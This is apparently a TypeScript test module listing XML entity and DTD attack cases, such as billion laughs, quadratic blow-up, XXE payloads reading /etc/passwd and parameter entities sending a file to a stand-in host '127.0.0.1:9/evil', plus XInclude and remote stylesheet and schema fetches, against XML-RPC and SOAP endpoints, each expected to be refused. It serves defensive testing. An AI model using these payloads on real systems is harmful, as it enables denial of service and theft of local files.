import type { Attack, AttackClass } from '../attack.ts';
import { message, request, send } from '../build.ts';
import { xmlEndpoints } from '../endpoints.ts';

/** Where nobody must ever knock because a document says so. */
const away = 'http://127.0.0.1:9/evil';

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

/** Documents with a DOCTYPE: what it says, and the text that uses it. */
const doctypes: readonly (readonly [name: string, doctype: string, text: string])[] = [
  ['ten levels of laughs', `<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>`, '&l9;'],
  ['quadratic blow-up', `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`, '&a;'.repeat(20_000)],
  ['entities that refer to each other', '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;'],
  ['an external entity of a file', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '&a;'],
  ['an external entity of another host', `<!DOCTYPE x [<!ENTITY a SYSTEM "${away}">]>`, '&a;'],
  ['an external entity by a public name', `<!DOCTYPE x [<!ENTITY a PUBLIC "-//x//y" "${away}">]>`, '&a;'],
  ['a parameter entity', `<!DOCTYPE x [<!ENTITY % a SYSTEM "${away}"> %a;]>`, 'x'],
  [
    'parameter entities that send a file away',
    `<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % s SYSTEM "${away}">%s;]>`,
    '&e;',
  ],
  ['an external DTD', `<!DOCTYPE x SYSTEM "${away}">`, 'x'],
  ['a public DTD', `<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${away}">`, 'x'],
  ['an empty internal subset', '<!DOCTYPE x []>', 'x'],
  ['a bare DOCTYPE', '<!DOCTYPE x>', 'x'],
  ['a default attribute', '<!DOCTYPE x [<!ATTLIST text type CDATA "admin">]>', 'x'],
  ['an unparsed entity', `<!DOCTYPE x [<!NOTATION n SYSTEM "n"><!ENTITY a SYSTEM "${away}" NDATA n>]>`, 'x'],
  ['a DOCTYPE after a comment', '<!-- --><!DOCTYPE x [<!ENTITY a "b">]>', '&a;'],
  ['a DOCTYPE in small letters', '<!doctype x [<!ENTITY a "b">]>', '&a;'],
  ['a DOCTYPE that does not end', '<!DOCTYPE x [<!ENTITY a "b"', '&a;'],
];

const malformed = { fault: 'malformed' } as const;

const refused: readonly Attack[] = [
  ...doctypes.map(
    ([name, before, text]): Attack => ({
      name,
      on: xmlEndpoints,
      send: (endpoint) => send(endpoint, { before, text }),
      expects: malformed,
    }),
  ),
  {
    name: 'a DOCTYPE in UTF-16',
    on: xmlEndpoints,
    send: (endpoint) => {
      const text = message(endpoint, { before: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', text: '&a;' });
      return request(endpoint, { body: Buffer.from(`\ufeff${text}`, 'utf16le') });
    },
    expects: malformed,
  },
  {
    name: 'a DOCTYPE inside of the message',
    on: xmlEndpoints,
    send: (endpoint) => send(endpoint, { text: '<!DOCTYPE x [<!ENTITY a "b">]>&a;' }),
    expects: malformed,
  },
  {
    name: 'an entity that nobody has declared',
    on: xmlEndpoints,
    send: (endpoint) => send(endpoint, { text: '&xxe;' }),
    expects: malformed,
  },
  {
    name: 'an entity of HTML',
    on: xmlEndpoints,
    send: (endpoint) => send(endpoint, { text: '&nbsp;' }),
    expects: malformed,
  },
  {
    name: 'a conditional section',
    on: xmlEndpoints,
    send: (endpoint) => send(endpoint, { text: '<![INCLUDE[x]]>' }),
    expects: malformed,
  },
];

const include = `<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`;
const runs = ['hostile.mark'];

/** What other readers fetch and ours must take as it stands. */
const plain: readonly Attack[] = [
  {
    name: 'an XInclude in place of the text',
    on: xmlEndpoints,
    send: (endpoint) => send(endpoint, { text: include }),
    expects: { fault: 'invalid-request' },
  },
  {
    name: 'an XInclude in place of a parameter',
    on: xmlEndpoints,
    send: (endpoint) => send(endpoint, { params: include }),
    expects: (endpoint) => ({ fault: endpoint === 'XML-RPC' ? 'invalid-request' : 'invalid-params' }),
  },
  {
    name: 'a stylesheet to be fetched',
    on: xmlEndpoints,
    send: (endpoint) => send(endpoint, { before: `<?xml-stylesheet type="text/xsl" href="${away}"?>` }),
    expects: (endpoint) => (endpoint === 'XML-RPC' ? { result: 'x', runs } : { fault: 'invalid-request' }),
  },
  {
    name: 'a schema to be fetched',
    on: xmlEndpoints,
    send: (endpoint) =>
      send(endpoint, {
        root: ` xmlns:i="http://www.w3.org/2001/XMLSchema-instance" ${endpoint === 'SOAP 1.2' ? 'i:schemaLocation' : 'i:schemaLocation'}="urn:x ${away}"`,
      }),
    expects: { result: 'x', runs },
  },
  {
    name: 'references to the five entities and to characters',
    on: xmlEndpoints,
    send: (endpoint) => send(endpoint, { text: '&lt;&#38;&#x3e;&quot;&apos;&#65;' }),
    expects: { result: `<&>"'A`, runs },
  },
];

export const xmlEntities: AttackClass = { name: 'XML entities and DTD', attacks: [...refused, ...plain] };
